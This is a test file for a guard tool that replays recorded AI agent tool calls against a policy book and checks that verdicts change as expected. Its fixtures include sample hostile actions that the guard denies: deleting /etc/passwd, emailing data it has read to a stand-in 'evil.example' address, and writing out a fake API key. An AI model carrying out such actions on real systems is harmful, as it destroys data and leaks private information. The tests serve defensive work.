import { spawnSync } from 'node:child_process';
import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runReplayCommand } from '../../src/cli/replay.js';
import { buildGuard } from '../../src/guard/build.js';
import { InteractionSchema, type InteractionInput } from '../../src/core/types.js';
import { ReplayReportSchema } from '../../src/replay/index.js';
import { openStore } from '../../src/store/db.js';

const DEFAULT_BOOK = join(import.meta.dirname, '../../policies/default');

const NOTES = 'Quarterly notes: the Lisbon office closes its books on the ninth, and the audit starts the week after.';

/** The recorded trace: [interaction, verdict expected under the shipped default book]. */
const TRACE: Array<[InteractionInput, 'allow' | 'deny']> = [
  [{ kind: 'tool_call', agent: 'a', session: 's1', server: 'files', tool: 'delete_file', arguments: { path: '/tmp/scratch.txt' } }, 'allow'],
  [{ kind: 'tool_call', agent: 'a', session: 's1', server: 'files', tool: 'delete_file', arguments: { path: '/etc/passwd' } }, 'deny'],
  [{ kind: 'tool_result', agent: 'b', session: 's2', server: 'ws', tool: 'read_file', content: [{ type: 'text', text: NOTES }] }, 'allow'],
  [{ kind: 'tool_call', agent: 'b', session: 's2', server: 'mail', tool: 'send_email', arguments: { to: 'bob@evil.example', body: `see ${NOTES}` } }, 'deny'],
  // Same call by an identity that read nothing: allowed, so only the data b read made the difference above.
  [{ kind: 'tool_call', agent: 'c', session: 's3', server: 'mail', tool: 'send_email', arguments: { to: 'bob@evil.example', body: `see ${NOTES}` } }, 'allow'],
  [{ kind: 'tool_call', agent: 'd', session: 's4', server: 'files', tool: 'write_file', arguments: { path: '/tmp/k', content: 'key sk-proj-AbCdEfGhIjKlMnOpQrStUv0123456789' } }, 'deny'],
];

let dir: string;
let db: string;

/** A copy of the default book with `edit` applied to its YAML text. */
function editedBook(name: string, edit: (yaml: string) => string): string {
  const out = join(dir, name);
  cpSync(DEFAULT_BOOK, out, { recursive: true });
  const file = join(out, 'book.yaml');
  const before = readFileSync(file, 'utf8');
  const after = edit(before);
  expect(after).not.toBe(before);
  writeFileSync(file, after);
  return out;
}

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'qg-replay-'));
  db = join(dir, 'state.db');
  let ts = 1_700_000_000_000;
  const g = await buildGuard({ policy: DEFAULT_BOOK, store: db, now: () => ts });
  for (const [i, want] of TRACE) {
    ts += 1000;
    const d = await g.pipeline.check(InteractionSchema.parse(i));
    expect(d.decision, JSON.stringify(i)).toBe(want);
  }
  // An admin row and a row written without an interaction (as by a store older than migration 3).
  await g.pipeline.store.audit.append({ agent: 'operator', kind: 'admin', tool: 'release', decision: 'allow', source: 'cli' });
  await g.pipeline.store.audit.append({ agent: 'a', session: 's1', kind: 'tool_call', server: 'files', tool: 'list', decision: 'allow' });
  await g.close();
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));

describe('quadguard replay', () => {
  it('replays a trace under the same book with no change, and says what it could not replay', async () => {
    const r = await runReplayCommand({ audit: db, policy: DEFAULT_BOOK });
    expect(r.rows).toBe(TRACE.length + 2);
    expect(r.replayed).toBe(TRACE.length);
    expect(r.changed).toEqual([]);
    expect(r.unchanged).toBe(TRACE.length - 1);
    expect(r.notReplayable).toEqual({ count: 2, byReason: { admin: 1, no_interaction: 1 } });
    // The secret was masked when recorded: that row is reported, not re-decided as if the key were there.
    expect(r.masked.map((m) => m.id)).toEqual([6]);
    expect(r.secretRules).toContain('no-secret-leak');
    expect(r.masked[0]!.before).toEqual({ decision: 'deny', rules: ['no-secret-leak'] });
    expect(r.masked[0]!.after.decision).toBe('allow');
  });

  it('stores the interaction masked: the key is not in the file', async () => {
    const s = openStore(db, undefined, { mustExist: true });
    try {
      const rec = (await s.audit.interaction(6))!;
      expect(rec.masked).toBe(true);
      expect(rec.body).not.toContain('sk-proj-AbCd');
      expect(rec.body).toContain('[REDACTED:');
      expect(JSON.parse(rec.body!).profile).toBeUndefined();
      expect((await s.audit.verify()).ok).toBe(true);
    } finally {
      await s.close();
    }
    expect(readFileSync(db).includes(Buffer.from('sk-proj-AbCd'))).toBe(false);
  });

  it('lists allow→deny after a rule is tightened', async () => {
    const book = editedBook('tight', (y) => y.replace("formula: '!(delete_operation & target_outside_sandbox)'", "formula: '!delete_operation'"));
    const out = join(dir, 'out', 'tight.json');
    const r = await runReplayCommand({ audit: db, policy: book, json: out });
    expect(r.changed.map((c) => [c.id, c.before.decision, c.after.decision])).toEqual([[1, 'allow', 'deny']]);
    expect(r.changed[0]!.after.rules).toEqual(['no-delete-outside-sandbox']);
    expect(r.unchanged).toBe(TRACE.length - 2);
    expect(ReplayReportSchema.parse(JSON.parse(readFileSync(out, 'utf8'))).changed).toHaveLength(1);
  });

  it('runs as a command: prints the changes and exits 1 with --fail-on-change', () => {
    const book = editedBook('cli', (y) => y.replace("formula: '!(delete_operation & target_outside_sandbox)'", "formula: '!delete_operation'"));
    const cli = join(import.meta.dirname, '../../src/cli/index.ts');
    const run = (...extra: string[]) => spawnSync(process.execPath, ['--import', 'tsx', cli, 'replay', '--audit', db, '--policy', book, ...extra], { encoding: 'utf8', timeout: 60_000 });
    const r = run('--fail-on-change');
    expect(r.stdout).toMatch(/changed 1 \(allow→deny 1, deny→allow 0\)/);
    expect(r.stdout).toMatch(/allow → deny:\n {2}(1-[0-9a-f]{8}|j[0-9a-f]{12}\.1) +tool_call +a +files__delete_file +allow\[-\] → deny\[no-delete-outside-sandbox\]/);
    expect(r.stdout).toMatch(/masked — not re-decidable for secret rules/);
    expect(r.status).toBe(1);
    expect(run().status).toBe(0);
  });

  it('lists deny→allow with the rules before and after when a rule is switched to monitor', async () => {
    const book = editedBook('loose', (y) =>
      y.replace("formula: '!(private_data_to_external_sink | (private_data_to_file & public_target_path))'\n    severity: high", "formula: '!(private_data_to_external_sink | (private_data_to_file & public_target_path))'\n    severity: high\n    mode: monitor"),
    );
    const r = await runReplayCommand({ audit: db, policy: book });
    expect(r.changed).toHaveLength(1);
    const c = r.changed[0]!;
    expect([c.id, c.session, c.before, c.after.decision, c.after.rules]).toEqual([4, 's2', { decision: 'deny', rules: ['no-read-then-exfiltrate'] }, 'allow', []]);
  });
});
